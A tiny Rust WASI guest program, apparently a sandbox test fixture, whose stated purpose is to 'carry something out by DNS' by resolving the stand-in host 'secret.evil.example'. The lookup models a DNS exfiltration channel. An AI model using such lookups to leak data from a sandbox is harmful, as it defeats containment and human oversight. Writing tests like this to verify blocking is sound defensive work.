//! Resolves a name, to carry something out by DNS.
#![no_std]

use kit::wasi::sockets::instance_network::instance_network;
use kit::wasi::sockets::ip_name_lookup::resolve_addresses;

kit::guest!(|| {
    let _ = resolve_addresses(&instance_network(), "secret.evil.example");
    kit::pretend()
});
